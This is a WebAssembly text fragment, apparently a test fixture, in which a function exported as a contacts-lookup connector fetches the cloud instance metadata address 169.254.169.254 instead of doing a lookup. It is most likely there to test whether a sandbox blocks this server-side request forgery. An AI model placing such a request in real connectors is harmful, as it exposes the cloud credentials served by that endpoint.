;; Asks an address: a cloud's metadata service.
(data (i32.const 1024) "https://169.254.169.254/latest/meta-data/\00")
(func (export "klaviyo:connector/contacts@0.1.0#lookup") (param i32 i32 i32) (result i32)
  (call $return (call $get (i32.const 1024))))
